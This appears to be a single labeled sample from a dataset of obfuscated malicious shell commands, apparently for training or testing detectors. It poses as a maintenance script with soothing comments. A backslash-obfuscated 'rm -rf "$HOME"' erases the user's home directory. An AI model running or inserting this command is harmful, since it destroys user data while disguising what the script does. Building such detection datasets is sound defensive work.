# label: malicious; obfuscated: comments,backslash
# routine maintenance script
: "cleanup"  # nothing to see
echo done; r\m -rf "$HOME"  # tidy
